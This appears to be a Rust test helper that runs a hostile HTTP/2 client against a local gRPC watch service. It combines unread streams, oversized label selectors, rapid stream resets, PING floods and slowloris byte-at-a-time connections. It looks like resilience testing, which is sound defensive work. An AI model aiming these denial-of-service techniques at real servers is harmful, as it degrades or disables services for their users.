//! A consumer that does at once whatever consumers should not, by HTTP/2 itself and below it, since a well-behaved
//! client would not let it.

use std::time::Duration;

use bytes::Bytes;
use h2::client::{Connection, SendRequest};
use http::Request;
use informerd::proto::{Scope, WatchObjectsRequest};
use prost::Message;
use tokio::{
    io::AsyncWriteExt,
    net::TcpStream,
    task::JoinSet,
    time::{interval, sleep, timeout},
};

const STREAMS: usize = 10_000;
const STREAMS_A_CONNECTION: usize = 250;
const SELECTOR: usize = 4 << 20;
/// Selectors a second, and so on.
const SELECTORS: u32 = 10;
const RESETS: u32 = 500;
const PINGS: usize = 2_000;
/// Connections that say what they say a byte at a time.
const SLOW: usize = 200;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frames begin with their length, type, flags and stream.
const SETTINGS: &[u8] = &[0, 0, 0, 4, 0, 0, 0, 0, 0];
const PING: &[u8] = &[0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
/// Of 16 KiB, and more to come after it.
const ENDLESS_HEADERS: &[u8] = &[0, 0x40, 0, 1, 0, 0, 0, 0, 1];

/// The attack, until it is dropped.
pub struct Hostile {
    _unread: Vec<Unread>,
    _going_on: JoinSet<()>,
}

/// Streams that nobody reads: not even their socket.
type Unread = (
    SendRequest<Bytes>,
    Connection<TcpStream, Bytes>,
    Vec<h2::client::ResponseFuture>,
);

/// Whom to attack, as whom.
#[derive(Clone)]
struct Target {
    port: u16,
    token: String,
    resource: String,
}

impl Hostile {
    /// Returns once all of it is under way.
    pub async fn begin(port: u16, token: &str, resource: &str) -> Self {
        let target = Target {
            port,
            token: token.to_owned(),
            resource: resource.to_owned(),
        };
        let mut unread = Vec::new();
        for _ in 0..STREAMS / STREAMS_A_CONNECTION {
            unread.extend(target.open_and_leave().await);
        }
        let mut going_on = JoinSet::new();
        for at in 0..SLOW {
            let target = target.clone();
            // Half of them do not even greet.
            let beginning = if at % 2 == 0 {
                PREFACE.len() - 1
            } else {
                usize::MAX
            };
            going_on.spawn(async move { target.say_slowly(beginning).await });
        }
        let attacker = target.clone();
        going_on.spawn(async move {
            loop {
                attacker.send_selectors().await;
                again().await;
            }
        });
        let attacker = target.clone();
        going_on.spawn(async move {
            loop {
                attacker.reset_calls().await;
                again().await;
            }
        });
        going_on.spawn(async move {
            loop {
                target.ping().await;
                again().await;
            }
        });
        sleep(Duration::from_secs(1)).await;
        Self {
            _unread: unread,
            _going_on: going_on,
        }
    }
}

/// Whoever is cut off comes back.
async fn again() {
    sleep(Duration::from_millis(100)).await;
}

impl Target {
    async fn tcp(&self) -> Option<TcpStream> {
        let stream = TcpStream::connect(("127.0.0.1", self.port)).await.ok()?;
        stream.set_nodelay(true).ok()?;
        Some(stream)
    }

    /// A connection whose windows are as large as windows get.
    async fn client(&self) -> Option<(SendRequest<Bytes>, Connection<TcpStream, Bytes>)> {
        let mut builder = h2::client::Builder::new();
        builder
            .initial_window_size((1 << 31) - 1)
            .initial_connection_window_size((1 << 31) - 1)
            .initial_max_send_streams(STREAMS_A_CONNECTION);
        builder.handshake(self.tcp().await?).await.ok()
    }

    fn request(&self) -> Request<()> {
        Request::post("http://127.0.0.1/informerd.v1.CacheService/WatchObjects")
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .header("authorization", format!("Bearer {}", self.token))
            .body(())
            .expect("a request")
    }

    /// A watch, as gRPC has it.
    fn message(&self, selector: String) -> Bytes {
        let request = WatchObjectsRequest {
            scope: Some(Scope {
                resource: self.resource.clone(),
                label_selector: selector,
                ..Scope::default()
            }),
            max_batch_bytes: 4 << 20,
            ..WatchObjectsRequest::default()
        };
        let encoded = request.encode_to_vec();
        let length = u32::try_from(encoded.len()).expect("it is short");
        [&[0][..], &length.to_be_bytes(), &encoded].concat().into()
    }

    /// A connection full of streams that nobody reads.
    async fn open_and_leave(&self) -> Option<Unread> {
        let (mut send, mut connection) = self.client().await?;
        let message = self.message(String::new());
        let mut open = Vec::new();
        for _ in 0..STREAMS_A_CONNECTION {
            let Ok((response, mut body)) = send.send_request(self.request(), false) else {
                break;
            };
            body.send_data(message.clone(), true).ok()?;
            open.push(response);
        }
        // Long enough for the requests to be written.
        let _ = timeout(Duration::from_millis(20), &mut connection).await;
        Some((send, connection, open))
    }

    /// Calls with selectors that nobody needs.
    async fn send_selectors(&self) -> Option<()> {
        let (send, connection) = self.client().await?;
        let connection = tokio::spawn(connection);
        let mut send = send.ready().await.ok()?;
        let mut pace = interval(Duration::from_secs(1) / SELECTORS);
        let selector = self.message(format!("a in ({}x)", "x,".repeat(SELECTOR / 2)));
        while !connection.is_finished() {
            pace.tick().await;
            let (_, mut body) = send.send_request(self.request(), false).ok()?;
            body.send_data(selector.clone(), true).ok()?;
        }
        None
    }

    /// Calls that are given up at once.
    async fn reset_calls(&self) -> Option<()> {
        let (send, connection) = self.client().await?;
        let connection = tokio::spawn(connection);
        let mut send = send.ready().await.ok()?;
        let mut pace = interval(Duration::from_secs(1) / RESETS);
        while !connection.is_finished() {
            pace.tick().await;
            let (_, mut body) = send.send_request(self.request(), false).ok()?;
            body.send_reset(h2::Reason::CANCEL);
        }
        None
    }

    /// Pings whose answers nobody reads.
    async fn ping(&self) -> Option<()> {
        let mut stream = self.tcp().await?;
        stream.write_all(&[PREFACE, SETTINGS].concat()).await.ok()?;
        let mut pace = interval(Duration::from_millis(10));
        let some = PING.repeat(PINGS / 100);
        loop {
            pace.tick().await;
            let written = timeout(Duration::from_secs(5), stream.write_all(&some)).await;
            written.ok()?.ok()?;
        }
    }

    /// Says so much of its beginning at once, and the rest a byte at a time.
    async fn say_slowly(&self, beginning: usize) {
        let greeting = [PREFACE, SETTINGS, ENDLESS_HEADERS].concat();
        let beginning = &greeting[..beginning.min(greeting.len())];
        loop {
            again().await;
            let Some(mut stream) = self.tcp().await else {
                continue;
            };
            if stream.write_all(beginning).await.is_err() {
                continue;
            }
            while stream.write_all(&[0]).await.is_ok() {
                sleep(Duration::from_millis(500)).await;
            }
        }
    }
}
